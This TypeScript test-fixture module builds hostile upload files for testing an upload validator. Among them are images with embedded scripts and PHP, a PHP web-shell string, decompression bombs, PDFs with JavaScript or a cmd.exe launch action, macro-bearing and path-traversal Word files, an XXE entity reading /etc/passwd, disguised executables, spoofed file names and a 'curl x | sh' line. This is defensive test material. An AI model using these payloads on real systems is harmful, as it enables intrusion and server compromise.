import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { PNG_SIGNATURE, png, pngChunk, pngHeader } from "./png.ts";
import { doc, docx, id3, mp3, mp4, ogg, pdf, pdfStream, webm } from "./samples.ts";
import { zip } from "./zip.ts";

export interface HostileFile {
  /** What is hostile about it. */
  title: string;
  name: string;
  /** As the sender calls it. */
  type: string;
  content: Buffer;
  /** May be taken when it is encoded anew. Others must be refused everywhere. */
  mayBeCleaned?: boolean;
}

/** Stands in every file that could carry it; nothing that is served may hold it. */
export const MARK = "alert('hostile')";
const SCRIPT = `<script>${MARK}</script>`;
const PHP = `<?php system($_GET['c']); // ${MARK} ?>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"><script>${MARK}</script></svg>`;
const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

const latin = (text: string) => Buffer.from(text, "latin1");
const JPEG = "image/jpeg";
const PDF = "application/pdf";
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

/** A head of bytes, then the mark, padded so that no reader runs out of it at once. */
const withMark = (...head: (number[] | string)[]) =>
  Buffer.concat([
    ...head.map((part) => (typeof part === "string" ? latin(part) : Buffer.from(part))),
    latin(SCRIPT),
    Buffer.alloc(400),
  ]);

const noise = { type: "gaussian", mean: 120, sigma: 10 } as const;
const photo = () => sharp({ create: { width: 200, height: 200, channels: 3, background: "#888", noise } });

/** A whole PNG of 30000 by 30000 pixels in black and white: 100 KB that unpack to 3 GB of colours. */
function hugePng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((30_000 / 8 + 1) * 30_000));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk("IHDR", header),
    pngChunk("IDAT", rows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

function gifHeader(width: number, height: number): Buffer {
  const head = latin("GIF89a\0\0\0\0\u0080\0\0\0\0\0\u00ff\u00ff\u00ff");
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return head;
}

/** One frame of an animation, with a picture of one colour. */
function gifFrame(width: number, height: number): Buffer {
  const head = latin("!\u00f9\u0004\0\0\0\0\0,\0\0\0\0\0\0\0\0\0");
  head.writeUInt16LE(width, 13);
  head.writeUInt16LE(height, 15);
  return Buffer.concat([head, latin("\u0002\u0002\u0044\u0001\0")]);
}

/** A WebP file of chunks as they are given. */
function riff(...chunks: [string, Buffer][]): Buffer {
  const body = chunks.map(([type, data]) => {
    const head = Buffer.alloc(8);
    head.write(type, "latin1");
    head.writeUInt32LE(data.length, 4);
    return Buffer.concat([head, data, Buffer.alloc(data.length % 2)]);
  });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + body.reduce((sum, part) => sum + part.length, 0));
  return Buffer.concat([latin("RIFF"), size, latin("WEBP"), ...body]);
}

async function pictures(): Promise<HostileFile[]> {
  const jpeg = await photo().jpeg().toBuffer();
  const webp = await photo().webp().toBuffer();
  const gif = await photo().gif().toBuffer();
  const plain = png(200, 200);
  const comment = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), latin(text)]);
  const exif = await photo()
    .jpeg()
    .withExif({ IFD0: { Artist: PHP, Copyright: SCRIPT } })
    .toBuffer();
  const profile = Buffer.concat([latin("icc\0\0"), deflateSync(Buffer.alloc(60 * 1024 * 1024, 65))]);
  const text = Buffer.concat([latin("Comment\0\0"), deflateSync(Buffer.alloc(60 * 1024 * 1024, 65))]);
  const clean = { mayBeCleaned: true };
  return [
    { title: "JPEG with PHP in its EXIF", name: "photo.jpg", type: JPEG, content: exif, ...clean },
    {
      title: "JPEG with a page in its comment",
      name: "photo.jpg.html",
      type: "text/html",
      content: Buffer.concat([jpeg.subarray(0, 2), comment(SCRIPT), jpeg.subarray(2)]),
      ...clean,
    },
    {
      title: "JPEG with a page behind it",
      name: "photo.jpg",
      type: JPEG,
      content: Buffer.concat([jpeg, latin(`<html>${SCRIPT}`)]),
      ...clean,
    },
    {
      title: "JPEG with an archive behind it",
      name: "photo.jpg",
      type: JPEG,
      content: Buffer.concat([jpeg, zip([{ name: "a.class", content: MARK }])]),
      ...clean,
    },
    {
      title: "PNG with a script in its text",
      name: "a.png",
      type: "image/png",
      content: png(200, 200, [pngChunk("tEXt", latin(`Comment\0${SCRIPT}`))]),
      ...clean,
    },
    {
      title: "PNG with PHP as an unknown chunk",
      name: "a.php.png",
      type: "image/png",
      content: png(200, 200, [pngChunk("teSt", latin(PHP))]),
      ...clean,
    },
    {
      title: "PNG whose text unpacks to 60 MB",
      name: "a.png",
      type: "image/png",
      content: png(200, 200, [pngChunk("zTXt", text)]),
      ...clean,
    },
    {
      title: "PNG whose colour profile unpacks to 60 MB",
      name: "a.png",
      type: "image/png",
      content: png(200, 200, [pngChunk("iCCP", profile)]),
      ...clean,
    },
    { title: "PNG cut off", name: "a.png", type: "image/png", content: plain.subarray(0, plain.length - 40) },
    {
      title: "PNG of 30000 by 30000",
      name: "a.png",
      type: "image/png",
      content: hugePng(),
    },
    {
      title: "PNG that says 30000 by 30000 and holds nothing",
      name: "a.png",
      type: "image/png",
      content: Buffer.concat([
        PNG_SIGNATURE,
        pngHeader(30_000, 30_000),
        pngChunk("IDAT", deflateSync(Buffer.alloc(1000))),
        pngChunk("IEND", Buffer.alloc(0)),
      ]),
    },
    { title: "PNG of 1 by 900000", name: "a.png", type: "image/png", content: png(1, 900_000) },
    {
      title: "PNG without width",
      name: "a.png",
      type: "image/png",
      content: Buffer.concat([PNG_SIGNATURE, pngHeader(0, 200), pngChunk("IEND", Buffer.alloc(0))]),
    },
    {
      title: "PNG without pixels",
      name: "a.png",
      type: "image/png",
      content: Buffer.concat([PNG_SIGNATURE, pngHeader(200, 200), pngChunk("IEND", Buffer.alloc(0))]),
    },
    {
      title: "PNG whose header is a page",
      name: "a.png",
      type: "image/png",
      content: Buffer.concat([PNG_SIGNATURE, latin(SCRIPT)]),
    },
    {
      title: "GIF that is a script too",
      name: "a.gif",
      type: "image/gif",
      content: latin(`GIF89a/*${" ".repeat(60)}*/=1;${MARK}//`),
    },
    {
      title: "GIF with a script behind it",
      name: "a.gif",
      type: "image/gif",
      content: Buffer.concat([gif, latin(`*/;${MARK}`)]),
      ...clean,
    },
    {
      title: "GIF of 65000 by 65000",
      name: "a.gif",
      type: "image/gif",
      content: Buffer.concat([gifHeader(65_000, 65_000), gifFrame(65_000, 65_000), latin(";")]),
    },
    {
      title: "GIF of 5000 frames of 4000 by 4000",
      name: "a.gif",
      type: "image/gif",
      content: Buffer.concat([gifHeader(4000, 4000), ...Array(5000).fill(gifFrame(4000, 4000)), latin(";")]),
    },
    {
      title: "WebP with a script as its XMP",
      name: "a.webp",
      type: "image/webp",
      content: riff(
        ["VP8X", Buffer.from([4, 0, 0, 0, 199, 0, 0, 199, 0, 0])],
        ["VP8 ", webp.subarray(20)],
        ["XMP ", latin(SCRIPT)],
      ),
      ...clean,
    },
    {
      title: "WebP of 16384 by 16384 without pixels",
      name: "a.webp",
      type: "image/webp",
      content: riff(["VP8X", Buffer.from([2, 0, 0, 0, 255, 63, 0, 255, 63, 0])]),
    },
    {
      title: "WebP that is a sound",
      name: "a.webp",
      type: "image/webp",
      content: latin(`RIFF\u0040\0\0\0WAVE${SCRIPT}`),
    },
    { title: "TIFF", name: "a.tiff", type: "image/tiff", content: await photo().tiff().toBuffer() },
    {
      title: "ICO",
      name: "favicon.ico",
      type: "image/x-icon",
      content: withMark([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0]),
    },
    {
      title: "HEIC",
      name: "IMG_0001.HEIC",
      type: "image/heic",
      content: withMark([0, 0, 0, 24], "ftypheic", [0, 0, 0, 0], "mif1heic"),
    },
    { title: "AVIF as JPEG", name: "a.jpg", type: JPEG, content: await photo().avif().toBuffer() },
    { title: "BMP", name: "a.bmp", type: "image/bmp", content: withMark("BM", [70, 0, 0, 0]) },
    {
      title: "PostScript as picture",
      name: "a.jpg",
      type: JPEG,
      content: latin(`%!PS\n(%pipe%id) (w) file /DCTDecode filter % ${MARK}`),
    },
    {
      title: "commands for ImageMagick as picture",
      name: "a.jpg",
      type: JPEG,
      content: latin(`push graphic-context\nfill 'url(https://x"|id;${MARK}")'`),
    },
    { title: "SVG with a script", name: "a.svg", type: "image/svg+xml", content: latin(SVG) },
    { title: "SVG named as photo", name: "a.jpg", type: JPEG, content: latin(`<?xml version="1.0"?>${SVG}`) },
    { title: "compressed SVG", name: "a.svgz", type: "image/svg+xml", content: gzipSync(SVG) },
  ];
}

function documents(): HostileFile[] {
  const pdfOf = (title: string, content: Buffer): HostileFile => ({ title, name: "deed.pdf", type: PDF, content });
  const docxOf = (title: string, content: Buffer): HostileFile => ({ title, name: "deed.docx", type: DOCX, content });
  return [
    pdfOf("PDF with a script", pdf([`<< /S /JavaScript /JS (${MARK}) >>`])),
    pdfOf(
      "PDF with a script in a compressed object",
      pdf([pdfStream(`5 0 << /S /J#61vaScript /JS (${MARK}) >>`, "/Type /ObjStm /N 1 /First 4")]),
    ),
    pdfOf(
      "PDF with a file within",
      pdf(["<< /Type /Filespec /EF << /F 9 0 R >> >>", pdfStream(SCRIPT, "/Type /EmbeddedFile")]),
    ),
    pdfOf("PDF that launches a program", pdf(["<< /S /Launch /F (cmd.exe) >>"])),
    pdfOf("PDF that unpacks to 70 MB", pdf([pdfStream(Buffer.alloc(70 * 1024 * 1024))])),
    {
      ...pdfOf("PDF with a Java archive behind it", Buffer.concat([pdf(), zip([{ name: "a.class", content: MARK }])])),
      mayBeCleaned: true,
    },
    docxOf("Word file with macros", docx([{ name: "word/vbaProject.bin", content: MARK }])),
    {
      ...docxOf("Word file with macros, by its own name", docx([{ name: "word/vbaProject.bin", content: MARK }])),
      name: "deed.docm",
    },
    docxOf(
      "Word file that unpacks to 110 MB",
      docx([{ name: "word/a.xml", content: Buffer.alloc(110 * 1024 * 1024) }]),
    ),
    docxOf(
      "Word file that says less than it unpacks to",
      docx([{ name: "word/a.xml", content: Buffer.alloc(50_000_000), says: 100 }]),
    ),
    docxOf(
      "Word file whose parts share their bytes",
      docx([
        { name: "word/a.xml", content: MARK },
        { name: "word/b.xml", content: MARK, shared: true },
      ]),
    ),
    docxOf("Word file with a path to elsewhere", docx([{ name: "../../../etc/cron.d/x", content: MARK }])),
    docxOf(
      "Word file with an entity",
      docx([{ name: "word/c.xml", content: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' }]),
    ),
    docxOf("archive named as Word file", zip([{ name: "x.html", content: SCRIPT }])),
    {
      title: "Java archive",
      name: "a.jar",
      type: "application/java-archive",
      content: zip([{ name: "META-INF/MANIFEST.MF", content: MARK }]),
    },
    {
      title: "old Word file with macros",
      name: "deed.doc",
      type: "application/msword",
      content: doc(["Root Entry", "WordDocument", "Macros", "VBA"]),
    },
    {
      title: "old spreadsheet as Word file",
      name: "deed.doc",
      type: "application/msword",
      content: doc(["Root Entry", "Workbook"]),
    },
    {
      title: "rich text",
      name: "a.rtf",
      type: "application/rtf",
      content: latin(`{\\rtf1{\\object\\objdata ${MARK}}}`),
    },
    {
      title: "mail",
      name: "a.eml",
      type: "message/rfc822",
      content: latin(`From: a@b\nMIME-Version: 1.0\n\n${SCRIPT}`),
    },
    { title: "trial virus", name: "eicar.txt", type: "text/plain", content: latin(EICAR) },
    { title: "page as text", name: "a.txt", type: "text/plain", content: latin(`<!DOCTYPE html>${SCRIPT}`) },
    {
      title: "XML with an entity as text",
      name: "a.txt",
      type: "text/plain",
      content: latin('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    },
    {
      title: "script of a shell as text",
      name: "run.sh.txt",
      type: "text/plain",
      content: latin(`#!/bin/sh\ncurl x | sh # ${MARK}`),
    },
  ];
}

function programs(): HostileFile[] {
  const named = (title: string, name: string, content: Buffer, type = "application/octet-stream"): HostileFile => ({
    title,
    name,
    type,
    content,
  });
  return [
    named("program for Windows", "setup.exe", withMark("MZ", [0x90, 0])),
    named("program for Windows as photo", "photo.jpg", withMark("MZ", [0x90, 0]), JPEG),
    named("program for Linux", "a.pdf", withMark([0x7f], "ELF", [2, 1, 1, 0]), PDF),
    named("program for macOS", "a.png", withMark([0xcf, 0xfa, 0xed, 0xfe]), "image/png"),
    named("class of Java", "a.class", withMark([0xca, 0xfe, 0xba, 0xbe])),
    named("WebAssembly", "a.wasm", withMark([0], "asm", [1, 0, 0, 0])),
    named("page named as photo", "photo.jpg", latin(`<html><body>${SCRIPT}`), JPEG),
    named("PHP named as photo", "shell.php.jpg", latin(PHP), JPEG),
    named("PHP after the mark of a GIF", "shell.gif", latin(`GIF89a${PHP}`), "image/gif"),
    named("nothing at all", "empty.png", Buffer.alloc(0), "image/png"),
    named("one byte", "one.jpg", Buffer.from([0xff]), JPEG),
    named("name of another folder", "../../../../tmp/evil.png", latin(SCRIPT), "image/png"),
    named("name with a null byte", "evil.php\0.jpg", latin(PHP), JPEG),
    named("name that reads backwards", "photo\u202egpj.exe", withMark("MZ"), JPEG),
    named("film as photo", "photo.jpg", mp4(["vide"], "isom"), JPEG),
    named("film as recording", "voice.webm", webm([1]), "audio/webm"),
    named("film as Ogg", "voice.ogg", ogg("\u0080theora"), "audio/ogg"),
    {
      ...named(
        "recording with a page in its title",
        "voice.mp3",
        Buffer.concat([id3(SCRIPT), mp3(), latin(SCRIPT)]),
        "audio/mpeg",
      ),
      mayBeCleaned: true,
    },
  ];
}

/** Files that nobody should send. */
export const hostileFiles = async (): Promise<HostileFile[]> => [...(await pictures()), ...documents(), ...programs()];
